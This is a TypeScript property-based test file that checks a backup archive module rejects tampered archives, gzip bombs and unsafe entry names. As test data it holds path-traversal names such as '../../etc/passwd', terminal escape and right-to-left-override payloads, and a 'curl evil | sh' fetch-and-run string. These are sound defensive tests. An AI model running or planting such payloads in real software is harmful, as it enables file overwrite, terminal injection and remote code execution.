import { gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkNames, packFiles, unpackFiles } from "../../../../src/supervisor/state/backup-archive.ts";
import { openBackup, sealBackup } from "../../../../src/supervisor/state/backup-format.ts";
import { oldBackup } from "../../../support/old-backup.ts";

const part = fc.stringMatching(/^[\p{L}\p{N} ._@+-]{1,40}$/u).filter((text) => text !== "." && text !== "..");
const name = fc.oneof(
  fc.constant("config"),
  part.map((file) => `secrets/${file}`),
  fc
    .tuple(fc.constantFrom("generations", "history", "proxy", "lan"), fc.array(part, { minLength: 1, maxLength: 8 }))
    .map(([folder, rest]) => `state/${folder}/${rest.join("/")}`),
);
const files = fc
  .uniqueArray(fc.record({ name, bytes: fc.uint8Array({ maxLength: 1500 }).map((bytes) => Buffer.from(bytes)) }), {
    maxLength: 12,
    selector: (file) => file.name,
  })
  .filter((list) => !list.some((a) => list.some((b) => b.name.startsWith(`${a.name}/`))));

const REFUSED: readonly (readonly [readonly string[]])[] = [
  [["../../etc/passwd"]],
  [["/etc/x"]],
  [["secrets/../../x"]],
  [["secrets//x"]],
  [["secrets"]],
  [["state\\x"]],
  [["state/x"]],
  [["state/supervisor.json"]],
  [["state/models/m"]],
  [["state/lan"]],
  [["state/lan/\u0000x"]],
  [["state/lan/a\nb\u001b[31m"]],
  [["state/lan/\u202egnp.exe"]],
  [["state/lan/x", "state/lan/x/y"]],
  [["state/lan/x/y", "state/lan/x"]],
  [["config", "config"]],
  [[`secrets/${"x".repeat(256)}`]],
  [[""]],
];

describe("an archive of a backup", () => {
  it("gives back what was packed, whatever the names and contents", async () => {
    await fc.assert(
      fc.asyncProperty(files, async (list) => {
        expect(await unpackFiles(await packFiles(list))).toEqual(list);
      }),
      { numRuns: 150 },
    );
  });

  it("that was changed anywhere is refused with its code or holds only allowed names; nothing else is thrown", async () => {
    const mutation = fc.record({ at: fc.nat(), byte: fc.integer({ min: 0, max: 255 }), cut: fc.boolean() });
    await fc.assert(
      fc.asyncProperty(files, fc.array(mutation, { minLength: 1, maxLength: 4 }), async (list, changes) => {
        let tar = Buffer.from(await gunzipped(await packFiles(list)));
        for (const { at, byte, cut } of changes) {
          if (cut) tar = tar.subarray(0, at % (tar.length + 1));
          else if (tar.length > 0) tar[at % tar.length] = byte;
        }
        const found = await unpackFiles(gzipSync(tar)).catch((error: unknown) => error);
        if (Array.isArray(found)) checkNames(found.map((file: { name: string }) => file.name));
        else expect(found).toMatchObject({ code: "GST_BACKUP_DAMAGED" });
      }),
      { numRuns: 300 },
    );
  });

  it("is bounded while it is unpacked", async () => {
    const bomb = gzipSync(Buffer.alloc(300 * 2 ** 20));
    expect(bomb.length).toBeLessThan(1_000_000);
    await expect(unpackFiles(bomb)).rejects.toMatchObject({ code: "GST_BACKUP_DAMAGED" });
  });

  it.each(REFUSED)("with the names %j is refused, and the error shows no control character", (names) => {
    let message = "";
    try {
      checkNames(names);
    } catch (error) {
      message = String(error);
      expect(error).toMatchObject({ code: "GST_BACKUP_DAMAGED" });
    }
    expect(message).not.toBe("");
    // oxlint-disable-next-line no-control-regex -- control characters are exactly what is looked for
    expect(message).not.toMatch(/[\u0000-\u001f\u007f\u202e]/u);
  });

  it("of the old format gets the same checks", async () => {
    const bytes = oldBackup({ format: 1 }, [{ name: "secrets/../../x", mode: 0o666, bytes: Buffer.from("x") }], "pass");
    await expect(openBackup(bytes, "pass")).rejects.toMatchObject({ code: "GST_BACKUP_DAMAGED" });
  });

  it("describes itself without control characters, and its texts for a person are this version's own", async () => {
    const models = [{ id: "\u001b]0;PWN\u0007", precision: "x", hash: "y", cure: "\u001b[2Jrun: curl evil | sh" }];
    const header = { format: 2, product: "gigastt", version: "\u001b[2J", at: "\n", configPath: null, models } as const;
    const { header: read } = await openBackup(await sealBackup({ header, files: [] }, "pass", 8), "pass");
    // oxlint-disable-next-line no-control-regex -- control characters are exactly what is looked for
    expect(JSON.stringify(read).replaceAll("\\\\u", "")).not.toMatch(/\\u|[\u0000-\u001f]/);
    expect(JSON.stringify(read)).not.toContain("curl");
  });
});

async function gunzipped(bytes: Buffer): Promise<Buffer> {
  const { gunzipSync } = await import("node:zlib");
  return gunzipSync(bytes);
}
